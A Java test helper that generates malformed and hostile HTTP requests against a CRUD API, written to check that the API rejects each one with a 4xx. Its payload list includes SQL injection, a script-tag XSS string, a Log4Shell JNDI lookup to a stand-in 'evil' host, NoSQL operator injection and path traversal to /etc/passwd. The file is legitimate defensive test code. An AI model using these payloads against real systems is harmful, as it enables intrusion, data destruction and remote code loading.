package com.pulse.api.crud;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.BiPredicate;
import org.springframework.http.HttpMethod;

/**
 * Requests that must all be refused with a 4xx: wrong types, oversized strings, bad ids,
 * injection strings, malformed documents. Every body is invalid in at least one way, so
 * none of them may change anything.
 */
public final class HostileRequests {

    public record Request(HttpMethod method, String path, String body) {
    }

    public static final List<String> NASTY_STRINGS = List.of(
            "'; DROP TABLE accounts; --",
            "' OR '1'='1",
            "1; UPDATE contacts SET name = 'x'",
            "\\\"}, \\\"name\\\": \\\"x\\\", \\\"x\\\": \\\"",
            "</script><script>alert(1)</script>",
            "${jndi:ldap://evil/x}",
            "%00%27",
            "\\u0000",
            "../../etc/passwd",
            "NaN",
            "💥".repeat(50));

    private static final List<String> WRONG_TYPES = List.of("true", "[]", "{}", "\"x\"", "-1", "1.5", "\"\"",
            "\"" + "9".repeat(400) + "\"", "123456789012345678901234567890", "[null]", "{\"$gt\": \"\"}");

    private HostileRequests() {
    }

    /**
     * @param url        the collection, e.g. /api/v1/accounts
     * @param existing   a live record, the target of the PATCH/DELETE/restore requests
     * @param validBody  a valid create body, field → JSON value
     * @param fields     the fields to send wrong values in
     * @param acceptable (field, JSON value) pairs among {@link #WRONG_TYPES} that the field accepts, left out
     * @param filters    the list's query parameters
     * @param invalid    a field and JSON value that make any body fail validation (after parsing), added to the
     *                   bodies carrying injection strings in fields that may well accept them
     */
    public static List<Request> build(String url, UUID existing, Map<String, String> validBody, List<String> fields,
                                      BiPredicate<String, String> acceptable, List<String> filters, Map.Entry<String, String> invalid) {
        List<Request> out = new ArrayList<>();
        String item = url + "/" + existing;
        for (String field : fields) {
            for (String value : WRONG_TYPES) {
                if (acceptable.test(field, value)) {
                    continue;
                }
                Map<String, String> create = new LinkedHashMap<>(validBody);
                create.put(field, value);
                out.add(new Request(HttpMethod.POST, url, object(create)));
                out.add(new Request(HttpMethod.PATCH, item, object(Map.of(field, value))));
            }
        }
        String firstField = validBody.keySet().iterator().next();
        for (String nasty : NASTY_STRINGS) {
            String s = json(nasty);
            for (String field : fields) {
                Map<String, String> create = new LinkedHashMap<>(validBody);
                if (!field.equals(invalid.getKey())) {
                    create.put(invalid.getKey(), invalid.getValue());
                }
                create.put(field, s);
                out.add(new Request(HttpMethod.POST, url, object(create)));
            }
            out.add(new Request(HttpMethod.PATCH, item, "{\"" + firstField + "\": " + s + ", \"version\": 0}"));
            for (String filter : filters) {
                out.add(new Request(HttpMethod.GET, url + "?" + filter + "=" + encode(nasty) + "&limit=0", null));
            }
            out.add(new Request(HttpMethod.GET, url + "?cursor=" + encode(nasty), null));
            out.add(new Request(HttpMethod.GET, url + "/" + encode(nasty), null));
            out.add(new Request(HttpMethod.GET, url + "/" + encode(nasty) + "/history", null));
            out.add(new Request(HttpMethod.DELETE, url + "/" + encode(nasty), null));
            out.add(new Request(HttpMethod.POST, url + "/" + encode(nasty) + "/restore", null));
            out.add(new Request(HttpMethod.PATCH, url + "/" + encode(nasty), object(validBody)));
            out.add(new Request(HttpMethod.POST, url, "{" + s + ": 1, " + object(validBody).substring(1)));
        }
        for (String id : List.of("0", "null", "undefined", UUID.randomUUID() + "x", "{" + existing + "}",
                existing.toString().replace("-", ""), "-1", "9".repeat(300), "1-2-3-4-5")) {
            out.add(new Request(HttpMethod.GET, url + "/" + encode(id), null));
            out.add(new Request(HttpMethod.PATCH, url + "/" + encode(id), object(validBody)));
            out.add(new Request(HttpMethod.DELETE, url + "/" + encode(id), null));
        }
        out.add(new Request(HttpMethod.POST, url, object(with(validBody, firstField, "\"" + "A".repeat(201) + "\""))));
        out.add(new Request(HttpMethod.POST, url, object(with(validBody, firstField, "\"" + "A".repeat(70_000) + "\""))));
        out.add(new Request(HttpMethod.PATCH, item, "{\"" + firstField + "\": \"" + "B".repeat(5_000) + "\"}"));
        out.add(new Request(HttpMethod.POST, url, object(validBody).replace("}", ", \"a\": 1".repeat(5_000) + "}")));
        out.add(new Request(HttpMethod.POST, url, "[".repeat(3_000) + "]".repeat(3_000)));
        out.add(new Request(HttpMethod.POST, url, object(validBody).replace("}", ", \"x\": " + "{\"x\":".repeat(2_000))));
        for (String body : List.of("", " ", "null", "0", "\"str\"", "{", "}", "[]", "{\"name\"}", "{'name': 'x'}",
                object(validBody).replace("}", ",}"), "\u0000", object(validBody) + " {}",
                object(validBody).replace("}", ", \"" + firstField + "\": \"twice\"}"))) {
            out.add(new Request(HttpMethod.POST, url, body));
            out.add(new Request(HttpMethod.PATCH, item, body.isEmpty() ? "{}" : body));
        }
        for (String version : List.of("0", "-1", "1.5", "\"1\"", "true", "99999999999999999999")) {
            out.add(new Request(HttpMethod.PATCH, item, "{\"" + firstField + "\": " + validBody.get(firstField)
                    + ", \"version\": " + version + "}"));
        }
        for (String q : List.of("limit=0", "limit=201", "limit=1e3", "limit=99999999999", "limit=-1", "limit=",
                "cursor=", "cursor=%00", "sort=id", "sort=name;DROP", "order=up", "sort=name&order=DESC", "q=",
                "q=" + "x".repeat(201))) {
            out.add(new Request(HttpMethod.GET, url + "?" + q, null));
        }
        return out;
    }

    private static Map<String, String> with(Map<String, String> body, String field, String value) {
        Map<String, String> copy = new LinkedHashMap<>(body);
        copy.put(field, value);
        return copy;
    }

    public static String object(Map<String, String> fields) {
        StringBuilder sb = new StringBuilder("{");
        fields.forEach((k, v) -> sb.append(sb.length() > 1 ? ", " : "").append('"').append(k).append("\": ").append(v));
        return sb.append('}').toString();
    }

    private static String json(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
